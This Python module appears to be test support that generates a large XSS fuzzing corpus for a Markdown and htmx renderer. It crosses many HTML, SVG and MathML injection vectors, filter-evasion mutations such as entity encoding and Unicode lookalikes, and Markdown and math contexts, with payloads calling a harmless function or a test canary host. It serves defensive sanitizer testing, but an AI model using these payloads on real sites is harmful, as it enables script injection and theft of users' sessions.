"""Texts that try to come alive on a page, made by crossing what such texts are made of.

Each is a vector (what would run or load something), mutated (how filters are passed)
and put into a context (where Markdown may show it). All call `__x`, or lead to
CANARY, a name that a test's browser sends to a listener of its own.
"""

import html
from collections.abc import Callable, Iterable, Iterator, Sequence
from itertools import product

CANARY = "canary.test"
CALL = "__x(1)"

type Mutation = Callable[[str], str]

HANDLERS = (
    *("onclick", "onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin"),
    *("onpointerenter", "onanimationstart", "onbeforematch", "onscrollend"),
)
# What htmx, its extensions and its kin read from the page, and this site's own scripts.
ATTRIBUTES = (
    *("hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete", "data-hx-get"),
    *("hx-on:click", "hx-on::load", "data-hx-on:click", "hx-on--before-request"),
    *("hx-trigger", "hx-vals", "hx-vars", "hx-headers", "hx-ext", "hx-boost"),
    *("hx-swap-oob", "hx-select-oob", "hx-target", "hx-include", "hx-disinherit"),
    *("ws-connect", "ws-send", "sse-connect", "sse-swap", "_", "script", "x-data"),
    *("x-init", "@click", "v-html", "ng-click", "data-action", "data-copy"),
    *("data-part", "data-rename", "data-grow", "popovertarget", "commandfor"),
    *("style", "class", "id", "name", "is", "slot", "part", "nonce", "autofocus"),
)
_ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<script src=//{CANARY}/a.js></script>",
    f"<script type=module>import '//{CANARY}/m.js'</script>",
    f"<script type=text/hyperscript>on load call {CALL}</script>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate attributeName=href values=javascript:{CALL} begin=0s></svg>",
    f"<svg><set attributeName=onclick to={CALL}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=a onload={CALL}>#a'></svg>",
    f"<svg><foreignObject><img src=/x onerror={CALL}></foreignObject></svg>",
    f"<svg><image href=//{CANARY}/s.png /></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<math><mi href=javascript:{CALL}>x</mi></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=/x onerror={CALL}>",
    f"<math><annotation-xml encoding=text/html><img src=/x onerror={CALL}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=/x onerror={CALL}>'>",
    f"<listing>&lt;img src=/x onerror={CALL}&gt;</listing>",
    f"<xmp><img src=/x onerror={CALL}></xmp>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=//{CANARY}/e.swf>",
    f"<applet code=//{CANARY}/a.class></applet>",
    f"<img src=/x onerror={CALL}>",
    f"<img src=//{CANARY}/i.png>",
    f"<img srcset='//{CANARY}/1.png 1x, //{CANARY}/2.png 2x'>",
    f"<picture><source srcset=//{CANARY}/p.webp><img></picture>",
    f"<image src=/x onerror={CALL}>",
    f"<video poster=//{CANARY}/v.png><source src=/x onerror={CALL}></video>",
    f"<video><track default src=//{CANARY}/t.vtt></video>",
    f"<audio src=//{CANARY}/a.mp3 autoplay onerror={CALL}></audio>",
    f"<input type=image src=//{CANARY}/n.png onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<dialog open onclose={CALL}><form method=dialog><button>x</button></dialog>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<body onload={CALL} background=//{CANARY}/b.png>",
    f"<table background=//{CANARY}/t.png><tr><td background=//{CANARY}/d.png>x",
    f"<link rel=stylesheet href=//{CANARY}/l.css>",
    f"<link rel=preload as=image href=//{CANARY}/l.png>",
    f"<link rel=prefetch href=//{CANARY}/f>",
    f"<link rel=dns-prefetch href=//dns.{CANARY}>",
    f"<link rel=preconnect href=//pre.{CANARY}>",
    f"<link rel=modulepreload href=//{CANARY}/m.js>",
    f"<link rel=icon href=//{CANARY}/icon.png>",
    f"<link rel=manifest href=//{CANARY}/manifest.json>",
    f"<style>@import '//{CANARY}/i.css';</style>",
    f"<style>*{{background:url(//{CANARY}/c.png)}}</style>",
    f"<style>@font-face{{font-family:f;src:url(//{CANARY}/f.woff)}}*{{font:1px f}}",
    f"<p style='background:url(//{CANARY}/s.png)'>x</p>",
    f"<p style='position:fixed;inset:0;content:url(//{CANARY}/s.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url=//{CANARY}/r'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<base href=//{CANARY}/>",
    f"<form action=//{CANARY}/f><button>Send again</button></form>",
    f"<form id=q></form><button form=q formaction=javascript:{CALL}>x</button>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href=/ ping=//{CANARY}/p>x</a>",
    f"<area href=javascript:{CALL}>",
    f"<template><script>{CALL}</script></template>",
    f"<template shadowrootmode=open><img src=/x onerror={CALL}></template>",
    f"<frameset onload={CALL}><frame src=//{CANARY}/f>",
    f"<portal src=//{CANARY}/p></portal><fencedframe></fencedframe>",
    f"<script type=speculationrules>{{'prefetch':[{{'urls':['//{CANARY}/s']}}]}}",
    f"<script type=importmap>{{'imports':{{'/':'//{CANARY}/'}}}}</script>",
    f"<x-element onclick={CALL} is=x>x</x-element>",
    "<img name=getElementById><form id=messages><input name=attributes></form>",
    f"<a id=htmx><a id=htmx name=config href=javascript:{CALL}>x</a>",
    "<article id=messages hx-swap-oob=true data-status=complete>x</article>",
    "<div hx-swap-oob='innerHTML:#conversation' data-base=0>x</div>",
    "</div></div></article></main><h1>x</h1>",
    f"<!--><script>{CALL}</script>-->",
    f"<!-- --!><script>{CALL}</script> -->",
    f"<![CDATA[><script>{CALL}</script>]]>",
    f"<?php ?><script>{CALL}</script>",
    f"<!doctype html><script>{CALL}</script>",
    f"<plaintext><script>{CALL}</script>",
    f"<textarea></textarea><script>{CALL}</script>",
    f"<title></title><script>{CALL}</script>",
    f"<select><style></select><script>{CALL}</script>",
    f"<svg></p><style><a id='</style><img src=/x onerror={CALL}>'>",
    f"<svg><desc><p><style><a title='</style><img src onerror={CALL}>'>",
)
ELEMENTS = (
    *_ELEMENTS,
    *(f"<p {name}={CALL} tabindex=0>x</p>" for name in HANDLERS),
    *(f"<button {name}='/x?{name}' hx-trigger=load>x</button>" for name in ATTRIBUTES),
)

_SCHEMES = (
    *(f"javascript:{CALL}", f"vbscript:{CALL}", f"livescript:{CALL}"),
    *(f"data:text/html,<script>{CALL}</script>", f"data:text/javascript,{CALL}"),
    *(f"data:image/svg+xml,<svg onload={CALL}>", "blob:null/1", "filesystem:x"),
    *("file:///etc/passwd", "about:srcdoc", "view-source:x", "chrome://settings"),
    *(f"//{CANARY}/u", f"\\\\{CANARY}\\u", "/accounts/logout/", "?x=1", "#messages"),
    *(f"ws://{CANARY}/", f"intent://{CANARY}#Intent;end", f"jar:http://{CANARY}!/"),
    *(f"https://{CANARY}/u", f"http://{CANARY}/u", f"mailto:a@{CANARY}"),
    *(f"https://127.0.0.1@{CANARY}/u", f"https://{CANARY}:1/\\@127.0.0.1"),
    *(f"https:javascript:{CALL}", f"https://{CANARY}/javascript:{CALL}"),
)


def _same(text: str) -> str:
    return text


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(c)) if c in "<>\"'=:(" else c for c in text)


def _split(mark: str) -> Mutation:
    """Put `mark` behind the second letter of the first word: <sc?ript, ja?vascript."""

    def mutate(text: str) -> str:
        at = next((i for i, c in enumerate(text) if c.isalpha()), 0) + 2
        return text[:at] + mark + text[at:]

    return mutate


MUTATIONS: tuple[Mutation, ...] = (
    _same,
    str.swapcase,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: _entities(text, "&#{};"),
    lambda text: _entities(text, "&#x{:X}"),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    lambda text: text.replace("<", "\\<").replace("(", "\\("),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "%3C").replace(":", "%3A"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace(">", ""),
    lambda text: text.replace("<", "< ").replace("=", " = "),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "\f\v\u00a0"),
    lambda text: text.replace("=", '="').replace(">", '">'),
    lambda text: f'"><b c="{text}',
    lambda text: f"'-->`*/{text}",
    # Lookalikes that some program on the way may fold back into ASCII.
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("s", "\u017f").replace("i", "\u0131"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"\ufeff{text}\ufffe",
    # What formulas travel in, inside the renderer.
    lambda text: f"\ufdd0d{text}\ufdd1",
    *map(_split, ("\0", "\t", "\n", "\u200b", "\u00ad", "\u2028", "\x01", "\x1b")),
    *map(_split, ("\ufdd0", "\ufdd1", "<!-- -->", "&NewLine;", "&shy;", "/", "**")),
)

CONTEXTS = (
    *("{}", "- {}", "1. - {}", "- [x] {}", "> {}", "> - {}", "# {}", "{}\n==="),
    *("a *{}* b", "**{}**", "~~{}~~", "`{}`", "``{}", "a\\\n{}", "    {}", "\t{}"),
    *("```\n{}\n```", "```html\n{}\n```", "~~~ {}\nx\n~~~", "```{}\nx\n```"),
    *("| a |\n|:-:|\n| {} |", "| {} |\n|---|\n| x |", "| a |\n|:{}:|\n| x |"),
    *("[{}](https://h.test)", '[a](https://h.test "{}")', "[a](<{}>)", "[a]({})"),
    *("[![{}](https://h.test/i.png)](https://h.test)", "![{}](https://h.test/i)"),
    *("![a](https://h.test/i '{}')", "[a]: https://h.test '{}'\n\n[a]", "<{}>"),
    *("[{0}]: https://h.test\n\n[{0}]", "https://h.test/{}", "https://h.test/?q='{}"),
    *("a[^1]\n\n[^1]: {}", "a[^{0}]\n\n[^{0}]: x", "$\\text{{{}}}$", "${}$"),
    *("$$\n{}\n$$", "\\[ \\text{{{}}} \\]", "$\\href{{{}}}{{x}}$", "$\\url{{{}}}$"),
    *("$\\style{{{}}}{{x}}$", "$\\class{{{}}}{{x}}$", "$\\color{{{}}}{{x}}$"),
    *("$\\unicode{{{}}}$", "$\\htmlData{{a={}}}{{x}}$", "$\\includegraphics{{{}}}$"),
    *("<details>\n\n{}\n\n</details>", "<!--\n{}\n-->", "<pre>\n{}", "\\\\{}"),
)
LINKS = (
    *("[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}> 'y')", "<{}>", "x {} y"),
    *("[x]\n\n[x]: {}", "![x]\n\n[x]: <{}>", "[![x]({0})]({0})", "[x]( {}\n'y')"),
    *("<a href={}>x</a>", "$\\href{{{}}}{{x}}$", "[x]({}){{hx-get=/x}}", "`{}`"),
)


def _in(context: str, text: str) -> str:
    return context.format(text)


def _crossed(
    contexts: Sequence[str], vectors: Sequence[str], *, full: bool
) -> Iterator[str]:
    """Every vector in every context and every mutation; fully: all three crossed."""
    if full:
        for context, vector, mutation in product(contexts, vectors, MUTATIONS):
            yield _in(context, mutation(vector))
        return
    for at, (vector, mutation) in enumerate(product(vectors, MUTATIONS)):
        if at % 2 == 0:
            # Both counts are coprime to each other: all pairs come round.
            yield _in(contexts[at % len(contexts)], mutation(vector))
    for at, (context, vector) in enumerate(product(contexts, vectors)):
        if at % 4 == 0:
            yield _in(context, vector)


def payloads(*, full: bool = False) -> list[str]:
    """The texts, each once: some thousands, or with `full` some hundred thousand."""
    crossed = (
        *_crossed(CONTEXTS, ELEMENTS, full=full),
        *_crossed(LINKS, _SCHEMES, full=full),
    )
    return list(dict.fromkeys(crossed))


def corpus(*, full: bool = False) -> list[str]:
    """What a browser is shown: all of the above, or every second of the thousands."""
    return payloads(full=full)[:: 1 if full else 2]


def one_line(texts: Iterable[str], limit_chars: int) -> list[str]:
    """What fits where there is one line of text: a title, a name, a search."""
    lines = (" ".join(text.replace("\0", " ").split()) for text in texts)
    return [line for line in dict.fromkeys(lines) if len(line) <= limit_chars]


_SWALLOWING = ("```", "~~~", "$$", "\\[", "``")


def documents(texts: Iterable[str], length_chars: int = 4_000) -> list[str]:
    """The texts one below the other in a few documents, each as a block of its own.

    What may swallow all that follows it stands at the end of a document.
    """
    made: list[str] = []
    plain: list[str] = []
    for text in texts:
        plain.append(text)
        swallows = any(text.count(mark) % 2 for mark in _SWALLOWING)
        if swallows or sum(map(len, plain)) > length_chars:
            made.append("\n\n".join(plain))
            plain = []
    return [*made, "\n\n".join(plain)]
